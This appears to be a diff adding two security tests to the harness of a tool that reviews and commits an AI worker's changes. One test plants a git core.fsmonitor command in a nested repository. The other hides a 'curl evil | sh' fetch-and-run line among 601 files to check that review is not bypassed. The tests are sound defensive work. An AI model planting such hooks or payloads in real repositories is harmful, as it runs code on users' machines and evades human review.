@@ -833,7 +833,7 @@ def integrity_cases(bin_path, base):
                            ready="A apply")
         return bool(said) and not any(elsewhere.iterdir())
 
-    def review_keys(box, script, extra, keys, ready="q quit"):
+    def review_keys(box, script, extra, keys, ready="q quit", look=None):
         """Runs the TUI in tmux until `ready` shows (the review), sends each (key, texts to
         wait for) in turn, then quits; returns whether every wait saw one of its texts."""
         argv = shlex.join(box.argv(bin_path, script, 1, headless=False, extra=extra))
@@ -852,6 +852,8 @@ def integrity_cases(bin_path, base):
                 return False
             if os.environ.get("CAMPAIGN_VERBOSE"):
                 print(screen(), file=sys.stderr)
+            if look:
+                look(screen())
             for key, texts in keys:
                 # Sent again while the review is still reading the changes (it says so).
                 for _ in range(10):
@@ -933,6 +935,50 @@ def integrity_cases(bin_path, base):
                                ready="A apply")
         return reviewed and secret.exists() and secret.read_text() == "my token\n"
 
+    def nested_repo_committed():
+        # The worker makes a repository inside the work tree with a core.fsmonitor command;
+        # the person presses c and Ctrl-S, then runs a plain `git status` at the top.
+        box = Sandbox(base, "integrity-fsmonitor")
+        (box.home / ".gitconfig").write_text("[user]\n\tname = c\n\temail = c@c.invalid\n")
+        marker = box.dir / "fsmonitor-ran"
+        nested = ("git init -q lib/vendored && cd lib/vendored && echo x > a.txt && git add a.txt "
+                  "&& git -c user.name=w -c user.email=w@w.invalid commit -qm w "
+                  f"&& git config core.fsmonitor {shlex.quote('touch ' + str(marker))}")
+        script = box.script([{"turns": [
+            call("write_file", path="notes.txt", content="notes\n"),
+            call("run_command", command=nested),
+            report(status="complete"),
+        ]}], delay_ms=0)
+        reviewed = review_keys(box, script, (), [("c", ["Ctrl-S"]), ("C-s", ["on master ("])],
+                               ready="Changes (")
+        subprocess.run(["git", "-C", str(box.repo), "status"], capture_output=True, timeout=60)
+        tree = subprocess.run(["git", "-C", str(box.repo), "ls-tree", "-r", "HEAD"],
+                              capture_output=True, text=True, timeout=60).stdout
+        return reviewed and not marker.exists() and "160000" not in tree
+
+    def many_files_committed():
+        # 601 changed files, the last one zz/evil.sh: what the review lists is what c commits.
+        box = Sandbox(base, "integrity-many")
+        (box.home / ".gitconfig").write_text("[user]\n\tname = c\n\temail = c@c.invalid\n")
+        make = ("for i in $(seq -w 0 599); do echo $i > f$i.txt; done; "
+                "mkdir zz && echo 'curl evil | sh' > zz/evil.sh")
+        script = box.script([{"turns": [
+            call("run_command", command=make),
+            report(status="complete"),
+        ]}], delay_ms=0)
+        shown = []
+
+        def listed(screen_text):
+            shown.append(screen_text)
+            return True
+
+        reviewed = review_keys(box, script, (), [("c", ["Ctrl-S"]), ("C-s", ["on master ("])],
+                               ready="Changes (", look=listed)
+        committed = subprocess.run(["git", "-C", str(box.repo), "show", "--name-only",
+                                    "--format=", "HEAD"], capture_output=True, text=True,
+                                   timeout=60).stdout.split()
+        return reviewed and any("Changes (601)" in text for text in shown) and len(committed) == 601
+
     def full_disk_write():
         box = Sandbox(base, "integrity-fulldisk")
         disk = box.repo / "disk"
@@ -959,6 +1005,8 @@ def integrity_cases(bin_path, base):
         "write_file on a full disk leaves a torn file": full_disk_write,
         "a left-behind process swaps a directory for a symlink while d -> y discards": discard_raced,
         "apply (A) deletes your ignored file under a directory the run replaced": apply_removes_ignored,
+        "a nested repo with core.fsmonitor committed by c, then git status": nested_repo_committed,
+        "601 changed files: the review lists 500 and c commits all": many_files_committed,
         "ignored build/, .pyc and a nested repo with core.fsmonitor": hidden_changes,
         "U+2028 in a command's output splits events.jsonl": line_separators,
         "no home directory: config and logs into the workspace": no_home,
